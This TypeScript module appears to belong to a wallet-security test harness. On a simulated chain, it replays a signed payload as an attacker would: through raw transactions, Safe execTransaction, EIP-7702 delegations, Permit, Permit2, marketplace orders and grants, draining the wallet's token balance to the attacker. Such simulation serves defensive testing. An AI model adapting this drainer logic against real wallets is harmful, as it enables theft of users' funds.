/** What an attacker does with a signature: brings it to the chain in the form that its kind has. */
import { secp256k1 } from '@noble/curves/secp256k1.js';
import { type Address, concat, encodeFunctionData, type Hex, pad, parseAbi, toHex } from 'viem';
import { keccak256 } from '../../../protocol/payload/keccak.ts';
import { type Decoded, decode, type Payload } from '../../../protocol/payload/payload.ts';
import type { SafeTx } from '../../../protocol/payload/safe-tx.ts';
import { encodeTransaction, type Transaction } from '../../../protocol/payload/transaction.ts';
import { MARKET, PERMIT2, type Theatre, TOKEN_ABI } from './stage.ts';

const SAFE_ABI = parseAbi([
  'function execTransaction(address to, uint256 value, bytes data, uint8 operation, uint256 safeTxGas, uint256 baseGas, uint256 gasPrice, address gasToken, address refundReceiver, bytes signatures) payable returns (bool success)',
]);
const OTHER_ABI = parseAbi([
  'function take(address from, ((address token, uint160 amount, uint48 expiration, uint48 nonce) details, address spender, uint256 sigDeadline) permit, address to, uint256 amount, uint8 v, bytes32 r, bytes32 s)',
  'function fulfil(bytes32 digest, address offerer, address token, uint256 amount, address to, uint8 v, bytes32 r, bytes32 s)',
]);
/** Sent along by the attacker, who gets it back with interest where a Safe refunds. */
const REFUNDED_PRICE = 10n ** 12n;
/** Of an account that carries delegations; everybody can compute it. */
const CARRIER_KEY = keccak256(new Uint8Array([1, 2, 3]));

interface Signature {
  readonly r: bigint;
  readonly s: bigint;
  readonly recovery: 0 | 1;
}

/** Signs with the wallet's key and carries the result; a sentence if no chain took it, or nobody has any use for it. */
export async function carryOut(theatre: Theatre, payload: Payload): Promise<string | undefined> {
  const decoded = decode(payload);
  if (!decoded.ok) return `no signer can sign it: ${decoded.error.code}`;
  const { authorization, digest, message, safeTx, transaction } = decoded.value;
  const signature = sign(digest, theatre.stage.walletKey);
  if (transaction !== undefined) return await sendTransaction(theatre, transaction, signature);
  if (authorization !== undefined) return await delegate(theatre, decoded.value, signature);
  // The form of a signature over a message adds 4 to v.
  if (safeTx !== undefined)
    return await executeSafe(theatre, safeTx, bytesOf(signature, message === undefined ? 27 : 31));
  if (message !== undefined) return 'a message moves nothing by itself';
  return await useTypedData(theatre, decoded.value, signature);
}

function sign(digest: Uint8Array, key: Uint8Array): Signature {
  const bytes = secp256k1.sign(digest, key, { prehash: false, format: 'recovered' });
  const { r, s, recovery } = secp256k1.Signature.fromBytes(bytes, 'recovered');
  return { r, s, recovery: recovery === 1 ? 1 : 0 };
}

function bytesOf({ r, s, recovery }: Signature, base: number): Hex {
  return concat([word(r), word(s), toHex(base + recovery, { size: 1 })]);
}

function word(value: bigint): Hex {
  return toHex(value, { size: 32 });
}

async function sendTransaction(
  theatre: Theatre,
  transaction: Transaction,
  { r, s, recovery }: Signature,
): Promise<string | undefined> {
  if (transaction.chainId !== theatre.stage.chainId) return `it is for chain ${transaction.chainId}, which is not here`;
  return await theatre.sendRaw(toHex(encodeTransaction(transaction, [BigInt(recovery), r, s])));
}

async function executeSafe(theatre: Theatre, tx: SafeTx, signatures: Hex): Promise<string | undefined> {
  const { attacker, chainId, safe } = theatre.stage;
  if (tx.safe !== safe) return 'it is for a Safe that is not here';
  if (tx.chainId === undefined) return 'only Safes before 1.3 take it, on every chain; this one is newer';
  if (tx.chainId !== chainId) return `it is for chain ${tx.chainId}, which is not here`;
  const data = encodeFunctionData({
    abi: SAFE_ABI,
    functionName: 'execTransaction',
    args: [
      tx.to,
      tx.value,
      toHex(tx.data),
      tx.operation,
      tx.safeTxGas,
      tx.baseGas,
      tx.gasPrice,
      tx.gasToken,
      tx.refundReceiver,
      signatures,
    ],
  });
  const hash = await theatre.send(attacker, { to: safe, data, gasPrice: tx.gasPrice > 0n ? REFUNDED_PRICE : 0n });
  return hash === undefined ? 'the Safe reverts it' : undefined;
}

/** What a Safe takes for "this owner has approved the hash". */
function approvedSignature(owner: Address): Hex {
  return concat([pad(owner, { size: 32 }), word(0n), '0x01']);
}

/** Whether the trojan's transaction that `approveHash` was asked for can be executed now. */
export async function executeApproved(theatre: Theatre, tx: SafeTx): Promise<boolean> {
  return (await executeSafe(theatre, tx, approvedSignature(theatre.stage.wallet))) === undefined;
}

/** Anybody may bring a delegation to the chain, in a transaction of its own. */
async function delegate(
  theatre: Theatre,
  decoded: Decoded,
  { r, s, recovery }: Signature,
): Promise<string | undefined> {
  const { authorization } = decoded;
  if (authorization === undefined) return 'there is no authorization';
  const { chainId, wallet } = theatre.stage;
  const carrier = addressOfKey(CARRIER_KEY);
  await theatre.setBalance(carrier, 10n ** 18n);
  const unsigned: Transaction = {
    type: 'eip7702',
    chainId,
    nonce: BigInt(await theatre.chain.nonce(carrier)),
    gas: 200_000n,
    fees: { kind: 'cap', maxFeePerGas: 10n ** 9n, maxPriorityFeePerGas: 0n },
    to: carrier,
    value: 0n,
    data: new Uint8Array(0),
    accessList: [],
    blobs: undefined,
    authorizations: [{ ...authorization, yParity: recovery, r, s, authority: wallet }],
  };
  const own = sign(keccak256(encodeTransaction(unsigned)), CARRIER_KEY);
  return await theatre.sendRaw(toHex(encodeTransaction(unsigned, [BigInt(own.recovery), own.r, own.s])));
}

function addressOfKey(key: Uint8Array): Address {
  const point = secp256k1.getPublicKey(key, false).slice(1);
  return toHex(keccak256(point).slice(12));
}

type Fields = Readonly<Record<string, unknown>>;

async function useTypedData(
  theatre: Theatre,
  { digest, payload }: Decoded,
  { r, s, recovery }: Signature,
): Promise<string | undefined> {
  const { attacker, token, wallet } = theatre.stage;
  const document = JSON.parse(Buffer.from(payload.bytes).toString('utf8')) as {
    readonly primaryType: string;
    readonly domain: Fields;
    readonly message: Fields;
  };
  const { domain, message, primaryType } = document;
  const [v, first, second] = [27 + recovery, word(r), word(s)];
  const contract = address(domain['verifyingContract']);
  const done = (hash: Hex | undefined): string | undefined =>
    hash === undefined ? 'the contract reverts it' : undefined;
  switch (primaryType) {
    case 'Permit': {
      const spender = address(message['spender']);
      const args = [wallet, spender, number(message['value']), number(message['deadline']), v, first, second] as const;
      const data = encodeFunctionData({ abi: TOKEN_ABI, functionName: 'permit', args });
      const permitted = done(await theatre.send(attacker, { to: token, data }));
      if (permitted !== undefined) return permitted;
      const balance = BigInt(await theatre.token('balanceOf', wallet));
      const taken = encodeFunctionData({
        abi: TOKEN_ABI,
        functionName: 'transferFrom',
        args: [wallet, attacker, balance],
      });
      return done(await theatre.send(spender, { to: token, data: taken }));
    }
    case 'PermitSingle': {
      if (contract !== PERMIT2.toLowerCase()) return 'no contract with allowances is there';
      const details = message['details'] as Fields;
      const spender = address(message['spender']);
      const permit = {
        details: {
          token,
          amount: number(details['amount']),
          expiration: Number(number(details['expiration'])),
          nonce: Number(number(details['nonce'])),
        },
        spender,
        sigDeadline: number(message['sigDeadline']),
      };
      const balance = BigInt(await theatre.token('balanceOf', wallet));
      const args = [wallet, permit, attacker, balance, v, first, second] as const;
      const data = encodeFunctionData({ abi: OTHER_ABI, functionName: 'take', args });
      return done(await theatre.send(spender, { to: PERMIT2, data }));
    }
    case 'OrderComponents': {
      const [item] = message['offer'] as readonly Fields[];
      const amount = number(item?.['startAmount']);
      const args = [toHex(digest), wallet, token, amount, attacker, v, first, second] as const;
      const data = encodeFunctionData({ abi: OTHER_ABI, functionName: 'fulfil', args });
      return done(await theatre.send(attacker, { to: MARKET, data }));
    }
    case 'Grant': {
      const args = [wallet, attacker, true, v, first, second] as const;
      const data = encodeFunctionData({ abi: TOKEN_ABI, functionName: 'grant', args });
      return done(await theatre.send(attacker, { to: token, data }));
    }
    default:
      return `nobody here has a use for ${primaryType}`;
  }
}

function address(value: unknown): Address {
  return typeof value === 'string' && /^0x[0-9a-fA-F]{40}$/.test(value) ? (value.toLowerCase() as Address) : '0x';
}

function number(value: unknown): bigint {
  return typeof value === 'string' ? BigInt(value) : 0n;
}
